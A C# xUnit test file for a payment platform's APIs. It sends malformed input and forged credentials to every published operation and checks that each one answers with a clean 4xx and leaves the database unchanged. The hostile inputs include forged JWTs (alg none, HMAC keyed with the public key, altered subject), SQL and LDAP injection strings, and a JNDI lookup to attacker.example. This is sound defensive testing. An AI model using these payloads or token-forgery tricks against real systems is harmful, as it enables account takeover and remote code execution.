using System.Collections.Concurrent;
using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Security.Cryptography;
using System.Text.Json;
using System.Text.RegularExpressions;
using Npgsql;
using OneGate.Tests.Regulators;
using OneGate.Tests.Support;
using Xunit.Abstractions;

namespace OneGate.Tests.Hostile;

/// <summary>
/// The bad-input sweep: every operation of the three published OpenAPI documents gets malformed and mistyped bodies,
/// missing fields, boundary and overflow amounts, attack strings, wrong content types, oversized bodies, bad
/// parameters, forged/expired/other users' tokens and keys, and undocumented methods. Every answer must be a 4xx
/// <c>application/problem+json</c> with a <c>code</c> and nothing internal in it, and the database must be exactly
/// as it was. The base request of every operation is sent once before the sweep (and accepted), so each case's
/// refusal comes from its one change.
/// </summary>
[Collection(OneGateAppAloneCollection.Name)]
public sealed partial class BadInputSweepTests(OneGateAppFixture fixture, ITestOutputHelper output)
{
    private static readonly string[] Services = ["auth", "payment", "transaction"];

    /// <summary>The contract's operations (api.md): the documents must describe at least these.</summary>
    private static readonly string[] ContractOperations =
    [
        "POST /api/auth/register", "POST /api/auth/login", "POST /api/auth/refresh", "POST /api/auth/logout", "GET /api/auth/me",
        "GET /.well-known/jwks.json", "GET /api/payments/balance", "POST /api/payments/topup", "POST /api/payments/pay",
        "POST /api/payments/transfer", "POST /api/payments/refund", "GET /api/payments/transactions/{transactionId}",
        "POST /api/payments/callbacks/gopay", "POST /api/payments/callbacks/shopeepay", "GET /api/transactions",
        "GET /api/transactions/{transactionId}", "GET /api/transactions/summary", "GET /api/external/transactions",
        "GET /api/external/reports/daily",
    ];

    private readonly HttpClient auth = fixture.CreateClient("auth");
    private readonly PaymentApi payments = new(fixture.CreateClient("payment"));

    [Fact]
    public async Task Every_operation_answers_bad_input_with_a_4xx_problem_and_changes_nothing()
    {
        var clients = Services.ToDictionary(s => s, fixture.CreateClient);
        var operations = new List<ApiOperation>();
        foreach (var service in Services)
        {
            var document = await clients[service].GetFromJsonAsync<JsonElement>("/openapi/v1.json");
            operations.AddRange(ApiOperation.FromDocument(service, document));
        }

        Assert.Empty(ContractOperations.Except(operations.Select(o => o.Name)));
        Assert.True(operations.Count >= ContractOperations.Length, $"only {operations.Count} operations published");

        var inputs = await SetUpAsync(operations);
        var cases = new SweepCases(inputs);
        await ControlsAsync(operations, cases, clients);

        var all = operations.SelectMany(cases.For).Concat(cases.WrongMethods(operations)).Concat(CredentialCases(operations, cases, inputs)).ToList();
        var connection = await fixture.DatabaseConnectionStringAsync();
        var before = await DatabaseFingerprint.SettledAsync(connection, TimeSpan.FromSeconds(20));
        Assert.Empty(DatabaseFingerprint.RequiredTables.Except(before.Keys));

        var clock = Stopwatch.StartNew();
        var outcomes = new ConcurrentBag<(HostileCase Case, int Status, string? Code, string? Failure)>();
        await Parallel.ForEachAsync(all, new ParallelOptions { MaxDegreeOfParallelism = 4 }, async (c, ct) =>
        {
            var (status, code, failure) = await RunAsync(clients[c.Operation.Service], c, ct);
            outcomes.Add((c, status, code, failure));
        });
        var elapsed = clock.Elapsed;

        var after = await DatabaseFingerprint.TakeAsync(connection);
        var changed = DatabaseFingerprint.Differences(before, after).ToList();

        // No case ended a session: otherwise later cases of that operation were refused for the wrong reason.
        var ended = new List<string>();
        foreach (var (operation, token, check) in inputs.SessionPerOperation.Select(s => (s.Key, s.Value, "/api/auth/me"))
                     .Concat(inputs.OperatorTokenPerOperation.Select(s => (s.Key, s.Value, "/api/admin/auth/session"))))
        {
            using var live = await auth.SendAsync(BearerRequest.Of(token, HttpMethod.Get, check));
            if (live.StatusCode != HttpStatusCode.OK)
            {
                ended.Add($"the session of {operation} was ended by a case");
            }
        }

        var throttled = outcomes.Count(o => o.Status == 429);
        output.WriteLine($"Bad-input sweep: {all.Count} cases over {operations.Count} operations ({Services.Length} OpenAPI documents) in {elapsed.TotalSeconds:0.0} s; " +
                         $"{throttled} answered 429; database tables fingerprinted: {before.Count}.");
        foreach (var group in outcomes.GroupBy(o => o.Case.Category).OrderBy(g => g.Key, StringComparer.Ordinal))
        {
            output.WriteLine($"  {group.Key}: {group.Count()} cases; " +
                             string.Join(", ", group.GroupBy(o => $"{o.Status} {o.Code}").OrderBy(g => g.Key, StringComparer.Ordinal).Select(g => $"{g.Key} ×{g.Count()}")));
        }

        foreach (var group in outcomes.GroupBy(o => $"{o.Case.Operation.Service} {o.Case.Operation.Name}").OrderBy(g => g.Key, StringComparer.Ordinal))
        {
            output.WriteLine($"  {group.Key}: {group.Count()} cases");
        }

        var failures = outcomes.Where(o => o.Failure is not null).Select(o => $"{o.Case}: {o.Failure}").Order(StringComparer.Ordinal).ToList();
        foreach (var failure in failures.Take(200))
        {
            output.WriteLine("FAIL " + failure);
        }

        Assert.True(failures.Count == 0, $"{failures.Count} of {all.Count} cases failed:\n{string.Join('\n', failures.Take(40))}");
        Assert.Empty(ended);
        Assert.True(changed.Count == 0, "the sweep changed the database:\n" + string.Join('\n', changed));
        Assert.Equal(0, throttled);
    }

    /// <summary>
    /// Attack strings as credentials. Each passes validation and is a failed login that counts against the per-IP
    /// throttle (20 per 15 minutes) the whole suite shares from 127.0.0.1, so there are only these few.
    /// </summary>
    private static IEnumerable<HostileCase> CredentialCases(IReadOnlyList<ApiOperation> operations, SweepCases cases, SweepInputs inputs)
    {
        // Outside the one-step window either side of now whenever it is sent; the operator's password is right.
        var op = operations.Single(o => o.Path == "/api/admin/auth/login");
        var expired = TotpClock.Code(inputs.Fields.LoginOperator.TotpSecret, TotpClock.CurrentStep - 3);
        yield return new HostileCase(op, "credentials", "TOTP code 90 seconds old", cases.Base(op).WithField("code", JsonSerializer.Serialize(expired)));

        var login = operations.Single(o => o.Path == "/api/auth/login");
        foreach (var (name, username, password) in new[]
                 {
                     ("SQL tautology", "' OR '1'='1' --", "' OR '1'='1"),
                     ("LDAP wildcard", "*)(uid=*))(|(uid=*", "*"),
                     ("script", "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}"),
                 })
        {
            yield return new HostileCase(login, "credentials", name, cases.Base(login)
                .WithField("username", JsonSerializer.Serialize(username)).WithField("password", JsonSerializer.Serialize(password)));
        }
    }

    /// <summary>Categories whose cases attack the credentials themselves; every other case sends valid ones.</summary>
    private static readonly HashSet<string> CredentialCategories = ["token", "API key", "signature", "credentials", "method"];

    private static async Task<(int Status, string? Code, string? Failure)> RunAsync(HttpClient client, HostileCase c, CancellationToken ct)
    {
        HttpResponseMessage? response = null;
        // An oversized body (chunked or with Content-Length) is refused (413) while the client may still be sending
        // it; Kestrel then closes the connection with the rest unread, and the client can lose the answer to the
        // reset (CI saw it with Content-Length too). Such a case is sent again, at most twice more. Through Kong the
        // gateway's own size limit answers first.
        var refusedUnread = c.Request.BodyBytes?.Length > Microsoft.Extensions.Hosting.ProblemDetailsDefaults.MaxRequestBodyBytes;
        for (var attempt = 1; response is null; attempt++)
        {
            try
            {
                using var request = c.Request.ToMessage();
                response = await client.SendAsync(request, ct);
            }
            catch (HttpRequestException ex) when (!refusedUnread || attempt == 3)
            {
                return (0, null, "no response: " + ex.Message);
            }
            catch (HttpRequestException)
            {
                // Lost to the reset: send it again.
            }
        }

        using (response)
        {
            var body = await response.Content.ReadAsStringAsync(ct);
            var status = (int)response.StatusCode;
            string? code = null;
            try
            {
                code = JsonDocument.Parse(body).RootElement.TryGetProperty("code", out var c1) && c1.ValueKind == JsonValueKind.String ? c1.GetString() : null;
            }
            catch (JsonException)
            {
            }

            // Provider notifications are answered in SNAP (a JSON responseCode of service 56), the rest in RFC 9457.
            if (c.Operation.Caller == Caller.ProviderSignature && SnapCode(body) is { } snapCode)
            {
                code = snapCode;
            }

            var problem = response.Content.Headers.ContentType?.MediaType == "application/problem+json"
                || (c.Operation.Caller == Caller.ProviderSignature && code is not null && response.Content.Headers.ContentType?.MediaType == "application/json");
            var failure = status is < 400 or > 499 ? $"status {status}"
                : c.ProtocolLevel && !problem ? (body.Length == 0 ? null : $"{status} from the HTTP parser with a body")
                : !problem ? $"{status} with content type '{response.Content.Headers.ContentType}'"
                : string.IsNullOrEmpty(code) ? $"{status} problem without a code"
                : Internals().IsMatch(body) ? $"{status} {code} reveals internals"
                : response.Headers.Contains("X-Injected") ? "a request value was injected into a response header"
                : code is "UNAUTHORIZED" or "INVALID_API_KEY" or "INVALID_CREDENTIALS" or "FORBIDDEN" && !CredentialCategories.Contains(c.Category)
                    ? "valid credentials were refused, so the case tested nothing"
                : null;
            return (status, code, failure is null ? null : $"{failure}: {Truncate(body)}");
        }
    }

    /// <summary>A SNAP answer's responseCode (4xx, service 56) with its message, or null.</summary>
    private static string? SnapCode(string body)
    {
        try
        {
            var root = JsonDocument.Parse(body).RootElement;
            return root.TryGetProperty("responseCode", out var rc) && rc.GetString() is { Length: 7 } value && value[3..5] == "56"
                   && root.TryGetProperty("responseMessage", out _) ? value : null;
        }
        catch (JsonException)
        {
            return null;
        }
    }

    private static string Truncate(string body) => body.Length > 300 ? body[..300] + "…" : body;

    [GeneratedRegex(@"Exception|\bat [A-Z][\w.]+\(|StackTrace|Npgsql|Postgres|SQLSTATE|\bSELECT\b|\bINSERT\b|Microsoft\.|System\.|OneGate\.", RegexOptions.CultureInvariant)]
    private static partial Regex Internals();

    /// <summary>Users, transactions, sessions and keys the sweep uses; all created before the first snapshot.</summary>
    private async Task<SweepInputs> SetUpAsync(IReadOnlyList<ApiOperation> operations)
    {
        var owner = await payments.FundedUserAsync(auth, 100_000m);
        var payment = await payments.PayAsync(owner, 20_000m);
        Assert.True(payment.Status == HttpStatusCode.Created, payment.Body);
        var other = await TestUsers.RegisterAndLoginAsync(auth);
        var otherTransaction = await payments.TopUpAsync(other, 10_000m);
        Assert.True(otherTransaction.Status == HttpStatusCode.Created, otherTransaction.Body);

        // A session that has ended: its still unexpired token must be refused everywhere.
        var ended = await TestUsers.LoginAsync(auth, owner);
        using (var logout = await auth.SendAsync(ended.Authorized(HttpMethod.Post, "/api/auth/logout")))
        {
            Assert.Equal(HttpStatusCode.NoContent, logout.StatusCode);
        }

        // Logging out the sweep's own session would void every later case: the logout control ends a throwaway one.
        var throwaway = await TestUsers.LoginAsync(auth, owner);
        var office = await BackOfficeAsync(operations);

        var sid = ForgedTokens.SessionOf(owner.AccessToken!);
        using var key = await ForgedTokens.DevelopmentKeyAsync(fixture);
        var now = DateTimeOffset.UtcNow;
        var bearer = new Dictionary<string, string?>
        {
            ["no Authorization header"] = null,
            ["empty Bearer"] = "Bearer ",
            ["Bearer garbage"] = "Bearer not.a.jwt",
            ["Basic credentials"] = "Basic " + Convert.ToBase64String("admin:admin"u8),
            ["alg none"] = "Bearer " + ForgedTokens.Unsigned(owner.Id, sid),
            ["HS256 keyed with the public key"] = "Bearer " + ForgedTokens.HmacWithPublicKey(key, owner.Id, sid),
            ["payload altered to another user"] = "Bearer " + ForgedTokens.AlterSubject(owner.AccessToken!, other.Id),
            ["expired (real key)"] = "Bearer " + ForgedTokens.Sign(key, owner.Id, sid, issuedAt: now.AddHours(-2), expires: now.AddHours(-1)),
            ["wrong issuer (real key)"] = "Bearer " + ForgedTokens.Sign(key, owner.Id, sid, issuer: "evil-issuer"),
            ["wrong audience (real key)"] = "Bearer " + ForgedTokens.Sign(key, owner.Id, sid, audience: "another-api"),
            ["unknown session (real key)"] = "Bearer " + ForgedTokens.Sign(key, owner.Id, Guid.NewGuid().ToString()),
            ["ended session"] = "Bearer " + ended.AccessToken,
            ["signed by another key"] = "Bearer " + ForgedTokens.Sign(ECDsa.Create(ECCurve.NamedCurves.nistP256), owner.Id, sid),
            ["10 KB token"] = "Bearer " + new string('a', 10_000),
            ["SQL in the token"] = "Bearer ' OR '1'='1",
        };

        var issued = await Task.WhenAll(
            RegulatorKeys.CreateAsync(fixture, more: ["--per-minute", "100000", "--per-hour", "100000", "--per-day", "100000"]),
            RegulatorKeys.CreateAsync(fixture, permissions: "READ_REPORTS"),
            RegulatorKeys.CreateAsync(fixture, permissions: "READ_TRANSACTIONS"),
            RegulatorKeys.CreateAsync(fixture),
            RegulatorKeys.CreateAsync(fixture, more: ["--expires-in-days", "1"]));
        var (good, reportsOnly, transactionsOnly, revoked, expired) = (issued[0], issued[1], issued[2], issued[3], issued[4]);
        Assert.Equal(0, (await RegulatorKeys.RunAsync(fixture, "revoke", revoked.Prefix)).ExitCode);
        await using (var db = new NpgsqlConnection(await fixture.DatabaseConnectionStringAsync()))
        {
            await db.OpenAsync();
            await using var expire = new NpgsqlCommand("UPDATE api_keys SET expires_at = now() - interval '1 second' WHERE id = @id", db);
            expire.Parameters.AddWithValue("id", expired.Id);
            Assert.Equal(1, await expire.ExecuteNonQueryAsync());
        }

        var sessions = new Dictionary<string, string>();
        foreach (var op in operations.Where(o => o.Caller == Caller.Bearer))
        {
            sessions[op.Name] = (await TestUsers.LoginAsync(auth, owner)).AccessToken!;
        }

        return new SweepInputs
        {
            SessionPerOperation = sessions,
            Fields = new ContractRules.Inputs
            {
                RecipientUsername = other.Username,
                OwnPaymentId = payment.Json.GetProperty("transactionId").GetString()!,
                LoginUsername = owner.Username,
                LoginPassword = owner.Password,
                LoginOperator = office.LoginOperator,
            },
            OwnerToken = owner.AccessToken!,
            OwnTransactionId = payment.Json.GetProperty("transactionId").GetString()!,
            PathValues = new Dictionary<string, string>(office.PathValues)
            {
                ["transactionId"] = payment.Json.GetProperty("transactionId").GetString()!,
                ["userId"] = owner.Id.ToString(CultureInfo.InvariantCulture),
            },
            ControlPathValues = office.ControlPathValues,
            ControlTokens = new Dictionary<string, string>
            {
                ["POST /api/auth/logout"] = throwaway.AccessToken!,
                ["POST /api/admin/auth/logout"] = office.ThrowawayToken,
            },
            OperatorTokenPerOperation = office.Tokens,
            OperatorWithoutRole = office.WithoutRole,
            EndedOperatorToken = office.EndedToken,
            OtherUsersTransactionId = otherTransaction.Json.GetProperty("transactionId").GetString()!,
            BearerAttacks = [.. bearer],
            RegulatorKey = good.Secret,
            ApiKeyAttacks =
            [
                new("no X-API-Key header", null),
                new("empty key", ""),
                new("unknown well-formed key", "og_live_" + new string('x', 43)),
                new("300-character key", "og_live_" + new string('x', 292)),
                new("revoked key", revoked.Secret),
                new("expired key", expired.Secret),
                new("key with one character changed", good.Secret[..^1] + (good.Secret[^1] == 'A' ? 'B' : 'A')),
                new("key prefix only", "og_live_" + good.Prefix),
                new("SQL in the key", "' OR '1'='1"),
            ],
            KeyWithoutPermission = new Dictionary<string, string>
            {
                ["/api/external/transactions"] = reportsOnly.Secret,
                ["/api/external/reports/daily"] = transactionsOnly.Secret,
            },
        };
    }

    /// <summary>
    /// Each operation's base request is accepted (or, where the base is deliberately unusable, refused for that
    /// reason only), so the sweep's refusals come from the one thing each case changes. Before the first snapshot.
    /// </summary>
    private async Task ControlsAsync(IReadOnlyList<ApiOperation> operations, SweepCases cases, Dictionary<string, HttpClient> clients)
    {
        foreach (var op in operations)
        {
            using var message = cases.Base(op, control: true).ToMessage();
            using var response = await clients[op.Service].SendAsync(message);
            var body = await response.Content.ReadAsStringAsync();
            var expected = op.Caller == Caller.ProviderSignature ? "401 4015600" : UnusableBases.GetValueOrDefault(op.Name, "2xx");
            var actual = (int)response.StatusCode is >= 200 and < 300 ? "2xx"
                : op.Caller == Caller.ProviderSignature ? $"{(int)response.StatusCode} {SnapCode(body)}"
                : $"{(int)response.StatusCode} {(response.Content.Headers.ContentType?.MediaType == "application/problem+json" ? JsonDocument.Parse(body).RootElement.GetProperty("code").GetString() : "")}";
            Assert.True(expected == actual, $"control {op.Service} {op.Name}: expected {expected}, got {actual}: {body}");
        }

        output.WriteLine(string.Create(CultureInfo.InvariantCulture, $"Controls: the base request of all {operations.Count} operations was accepted."));
    }
}
